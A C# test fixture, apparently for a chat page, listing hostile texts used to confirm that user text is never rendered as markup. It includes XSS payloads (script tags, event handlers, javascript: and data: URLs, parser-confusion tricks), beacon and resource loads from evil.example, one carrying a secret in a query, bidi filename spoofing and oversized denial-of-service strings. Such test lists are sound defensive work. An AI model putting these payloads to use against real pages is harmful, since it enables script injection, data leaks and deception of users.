namespace HubChat.Tests.Page;

/// <summary>Texts that would run or fetch something if the page ever took a text for markup. Each sets <c>window.ran</c> when it wins.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "<script>window.ran=1</script>",
        "<img src=x onerror=window.ran=2>",
        "<img src=//evil.example/beacon.png>",
        "![beacon](https://evil.example/beacon.png?secret=1)",
        "![beacon][b]\n\n[b]: https://evil.example/reference.png",
        "[click](javascript:window.ran=3)",
        "[click](JaVaScRiPt:window.ran=4)",
        "[click](\u0001javascript:window.ran=5)",
        "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTY8L3NjcmlwdD4=)",
        "[click](vbscript:window.ran=7 \"title\" onmouseover=window.ran=7)",
        "<javascript:window.ran=8>",
        "<svg onload=window.ran=9><svg/onload=window.ran=9>",
        "<svg><style><img src=x onerror=window.ran=10></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=11&gt;\">",
        "<iframe srcdoc='<script>parent.ran=12</script>'></iframe><iframe src=//evil.example></iframe>",
        "<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf>",
        "<form action=javascript:window.ran=13><button>x</button></form>",
        "<a href=javascript:window.ran=14>x</a>",
        "<details open ontoggle=window.ran=15>x</details>",
        "<input autofocus onfocus=window.ran=16>",
        "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css';</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<video poster=//evil.example/p.png src=//evil.example/v.mp4 autoplay></video><audio src=//evil.example/a.mp3 autoplay></audio>",
        "```html\n<script>window.ran=17</script><img src=//evil.example/z.png onerror=window.ran=17>\n```",
        "```\"><img src=x onerror=window.ran=18>\ncode\n```",
        "`<img src=x onerror=window.ran=19>`",
        "[a](https://example.org/\"onmouseover=\"window.ran=20 'title\" onmouseover=\"window.ran=20')",
        "| <img src=x onerror=window.ran=21> | b |\n| --- | --- |\n| <svg onload=window.ran=21> | [x](javascript:window.ran=21) |",
        "<div class=toast role=alert style='position:fixed;inset:0;background:url(//evil.example/s.png)'>Signed out</div>",
        "\u202egpj.exe <b>bidi</b>\u202c",
        "# <img src=x onerror=window.ran=22>\n\n> <script>window.ran=22</script>\n\n- <svg onload=window.ran=22>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.ran=23>\">",
        "```constructor\nwindow.ran=25\n```\n\n```__proto__\nwindow.ran=25\n```\n\n[__proto__]: https://evil.example\n\n[__proto__] [constructor]",
        new('>', 20_000),
        new('[', 20_000),
        $"{new string('a', 20_000)}@",
        "constructor __proto__ {{constructor.constructor('window.ran=24')()}} ${window.ran=24}",
    ];
}
